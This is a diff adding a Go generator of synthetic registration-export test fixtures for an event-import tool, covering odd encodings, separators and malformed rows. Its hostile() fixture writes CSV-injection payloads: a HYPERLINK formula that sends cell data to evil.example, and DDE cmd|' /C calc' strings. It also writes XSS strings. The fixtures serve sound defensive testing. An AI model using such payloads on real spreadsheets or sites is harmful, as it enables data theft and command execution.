@@ -1,0 +1,219 @@
+//go:build ignore
+
+// generate writes the synthetic registration exports of this folder, each
+// with the encoding, separator and line ends of the tool it imitates. The
+// two sample_*.csv files are copies of /work/shared/data and are not
+// generated. Run from the repository root:
+//
+//	go run testdata/exports/generate.go
+//
+// The event the fixtures are written for runs on Wednesday 14 and Thursday
+// 15 October 2026. README.md says what each file holds and why.
+package main
+
+import (
+	"archive/zip"
+	"bytes"
+	"log"
+	"math/rand/v2"
+	"os"
+	"path/filepath"
+	"strings"
+	"unicode/utf16"
+
+	"golang.org/x/text/encoding/charmap"
+)
+
+const dir = "testdata/exports"
+
+func main() {
+	write("utf8_tab.txt", utf8Tab())
+	write("utf16le_tab.txt", utf16LE(utf16Tab()))
+	write("title_row.csv", windows1252(titleRow()))
+	write("mac_cr.csv", []byte(macCR()))
+	write("quoted_ragged.csv", []byte(quotedRagged()))
+	write("ticketing_en.csv", []byte(ticketing()))
+	write("google_forms_fr.csv", []byte(googleForms()))
+	write("hostile.csv", []byte(hostile()))
+	write("empty.csv", nil)
+	write("pdf_renamed.csv", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"))
+	write("workbook.xlsx", workbook())
+	write("random.bin", random())
+}
+
+func write(name string, data []byte) {
+	if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func lines(end string, rows ...string) string { return strings.Join(rows, end) + end }
+
+// utf8Tab is a "Unicode text" export saved as UTF-8 without BOM: tabs, LF.
+func utf8Tab() []byte {
+	return []byte(lines("\n",
+		"Prénom\tNom\tE-mail\tOrganisation\tCatégorie",
+		"Hélène\tMüller\thelene.muller@example.de\tNationalpark Schwarzwald\tIntervenante",
+		"Zoé\tNadeau\tzoe.n@example.org\tOffice de tourisme Cœur de Savoie\tParticipant",
+		"Łukasz\tWróbel\tlukasz@example.pl\t\"Karkonoski\tPark Narodowy\"\tParticipant",
+	))
+}
+
+// utf16Tab is Excel's "Unicode text": UTF-16LE with BOM, tabs, CRLF, with
+// per-day attendance columns named by weekday and date.
+func utf16Tab() string {
+	return lines("\r\n",
+		"Nom\tPrénom\tAdresse e-mail\tStructure\tPrésence mercredi 14 octobre\tPrésence jeudi 15 octobre",
+		"Müller\tHélène\th.muller@example.de\tNationalpark Schwarzwald\tOui\tOui",
+		"Nadeau\tZoé\tzoe.n@example.org\tOffice de tourisme Cœur de Savoie\tOui\tNon",
+		"Nguyễn\tNgọc\tngoc@example.vn\tVườn quốc gia Bạch Mã\tNon\tOui",
+	)
+}
+
+// titleRow is a French Excel sheet (Windows-1252, ';', CRLF) with a title
+// row and a blank row above the header, per-day Oui/Non columns and a
+// remarks column.
+func titleRow() string {
+	return lines("\r\n",
+		"Inscriptions - Rencontre 2026;;;;;;",
+		";;;;;;",
+		"Nom;Prénom;Courriel;Structure;Présence mercredi 14 octobre;Présence jeudi 15 octobre;Remarques",
+		"Durand;Sophie;sophie.durand@example.fr;Parc national des Écrins;Oui;Oui;",
+		"Lefèvre;Marc;marc.lefevre@example.fr;Œuvre des Alpes;Oui;Non;végétarien",
+		"Garnier;Inès;ines.garnier@example.fr;Mairie de Briançon;Non;Oui;",
+		"Roux;Paul;paul.roux@example.fr;Métropole de Lyon;Non;Non;",
+		"Bernard;Lucie;lucie.bernard@example.fr;CCI des Hautes-Alpes;Peut-être;Oui;",
+		"Faure;Jean;jean.faure@example.fr;Office national des forêts;x;;arrive mercredi soir",
+	)
+}
+
+// macCR has classic Mac OS line ends (CR only) and, as Excel for Mac
+// writes it, an LF for the line break inside a cell.
+func macCR() string {
+	return lines("\r",
+		"first_name,last_name,email,organisation",
+		"Éloïse,Marchand,eloise@example.fr,Parc du Vercors",
+		`Bob,Smith,bob@example.com,"Acme, Inc."`,
+		"Carol,King,carol-at-example.com,Nowhere",
+		"Dan,Brown,dan@example.com,\"Books\nand more\"",
+		"Eve,Adams,eve@example.com,Crypto",
+	)
+}
+
+// quotedRagged has quoted fields holding line breaks, separators and
+// doubled quotes, a blank line, and rows with too few and too many fields.
+func quotedRagged() string {
+	return lines("\n",
+		"first_name,last_name,email,organization,notes",
+		`Ada,Lovelace,ada@example.org,"Engines, Ltd","She said ""hello"""`,
+		`Grace,Hopper,grace@example.org,"Navy`,
+		`Yard, Building ""7""",remark`,
+		``,
+		`Alan,Turing,alan@example.org`,
+		`Edsger,Dijkstra,edsger@example.org,TU Eindhoven,note,extra,more`,
+		`Barbara`,
+		`"Jean`,
+		`Luc",Picard,"jl@example.org",Starfleet,"two`,
+		`lines"`,
+		`Tim,Berners-Lee,not-an-address,CERN,"semi; colon, comma"`,
+		`Linus,Torvalds,linus@example.org,"Linux ""Foundation""",`,
+	)
+}
+
+// ticketing imitates a ticketing tool's attendee export (pretix,
+// Eventbrite): English headers, an order code shared by the tickets of one
+// order, one buyer's e-mail repeated on the tickets she bought for
+// colleagues, a ticket id per attendee, and order statuses.
+func ticketing() string {
+	return lines("\n",
+		"Order code,Order date,Order status,Ticket ID,Ticket type,Attendee name,Attendee email,Company,Invoice address",
+		`ABC12,2026-09-01,paid,1001,Regular,Alice Martin,buyer@agency.example,Agency One,"1 rue de la Paix, Paris"`,
+		`ABC12,2026-09-01,paid,1002,Regular,Bruno Petit,buyer@agency.example,Agency One,"1 rue de la Paix, Paris"`,
+		`ABC12,2026-09-01,paid,1003,Speaker,Chloé Durand,buyer@agency.example,Agency One,"1 rue de la Paix, Paris"`,
+		`DEF34,2026-09-02,canceled,1004,Regular,Denis Roy,denis@example.com,Roy SA,`,
+		`GHI56,2026-09-03,refunded,1005,Student,Emma Blanc,emma@example.com,Université Grenoble Alpes,`,
+		`JKL78,2026-09-04,pending,1006,Regular,Farid Haddad,farid@example.com,,`,
+	)
+}
+
+// googleForms imitates a Google Forms response sheet downloaded as CSV:
+// UTF-8 without BOM, commas, a timestamp, a multiple-choice days question,
+// an IP address and a consent question that must not be imported.
+func googleForms() string {
+	const consent = "J'accepte que mes données soient utilisées pour l'organisation de la rencontre"
+	return lines("\n",
+		"Horodateur,Adresse e-mail,Votre prénom,Votre nom,Nom de votre structure,Quels jours serez-vous présent ?,Adresse IP,"+consent+",Commentaire",
+		`2026/09/01 10:02:11 UTC+2,anne.leroux@example.fr,Anne,Le Roux,Parc naturel régional du Queyras,"Jour 1, Jour 2",192.0.2.10,J'accepte,Arrivera vers 10h`,
+		`2026/09/01 11:40:55 UTC+2,b.chabert@example.fr,Baptiste,Chabert,Conseil départemental de l'Isère,Jour 1,192.0.2.11,J'accepte,`,
+		`2026/09/02 08:15:00 UTC+2,zoe.n@example.org,Zoé,Nadeau,Office de tourisme Cœur de Savoie,Jour 2,198.51.100.7,J'accepte,Végétarienne`,
+		`2026/09/02 09:00:12 UTC+2,f.dubois@example.fr,François,Dubois,Syndicat mixte des Gorges du Verdon,"Jour 1 (plénière), Jour 2 (ateliers)",203.0.113.5,J'accepte,`,
+		`2026/09/03 09:00:12 UTC+2,g.aubert@example.fr,Gaëlle,Aubert,Agence régionale de la biodiversité,Jour 3,203.0.113.9,J'accepte,`,
+		`2026/09/03 10:00:00 UTC+2,h.muller@example.de,Hélène,Müller,Nationalpark Schwarzwald,,203.0.113.10,J'accepte,`,
+	)
+}
+
+// hostile holds rows that are attacks or mistakes, each of which must be
+// rejected for its own reason, among good rows that must still go in.
+func hostile() string {
+	return lines("\n",
+		"Prénom,Nom,Email,Organisation,Commentaire",
+		`Alice,Martin,alice@example.fr,Parc national des Écrins,"=HYPERLINK(""http://evil.example"",""ok"")"`,
+		`"=HYPERLINK(""http://evil.example/?d=""&A1,""Cliquez"")",Pirate,pirate1@example.com,Evil Corp,`,
+		`Bob,+cmd|' /C calc'!A0,pirate2@example.com,Evil Corp,`,
+		`Carl,Cox,carl@example.com,@SUM(1+1)*cmd|' /C calc'!A0,`,
+		`<script>alert(1)</script>,Dupont,script@example.com,Org,`,
+		`Dora,"<img src=x onerror=alert(1)>",img@example.com,Org,`,
+		strings.Repeat("A", 5000)+`,Long,long@example.com,Org,`,
+		"Jo\x00hn,Nul,nul@example.com,Org,",
+		"Ma\x1b[31mx,Esc,esc@example.com,Org,",
+		"Bel\x07la,Bell,bel@example.com,Org,",
+		`,,noname@example.com,Org,`,
+		`Nina,Sans-Mail,,Org,`,
+		`Oscar,Invalide,pas-une-adresse,Org,`,
+		`Claire,Petit,Claire.Petit@Example.FR,Mairie,`,
+		`Claire,Petit,claire.petit@example.fr,Mairie de Gap,`,
+		`Zoé,Nadeau,zoe@example.org,Cœur de Savoie,<b>note</b>`,
+	)
+}
+
+// windows1252 encodes s as French Excel's "CSV (séparateur: point-virgule)".
+func windows1252(s string) []byte {
+	b, err := charmap.Windows1252.NewEncoder().Bytes([]byte(s))
+	if err != nil {
+		log.Fatal(err)
+	}
+	return b
+}
+
+func utf16LE(s string) []byte {
+	out := []byte{0xFF, 0xFE}
+	for _, u := range utf16.Encode([]rune(s)) {
+		out = append(out, byte(u), byte(u>>8))
+	}
+	return out
+}
+
+// workbook is a minimal .xlsx-like zip: what an organiser uploads when
+// they forget to save as CSV.
+func workbook() []byte {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	w, err := zw.Create("[Content_Types].xml")
+	if err != nil {
+		log.Fatal(err)
+	}
+	w.Write([]byte(`<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`))
+	if err := zw.Close(); err != nil {
+		log.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// random is 1 KiB of seeded random bytes.
+func random() []byte {
+	var seed [32]byte
+	copy(seed[:], "desk testdata random.bin")
+	b := make([]byte, 1024)
+	rand.NewChaCha8(seed).Read(b)
+	return b
+}
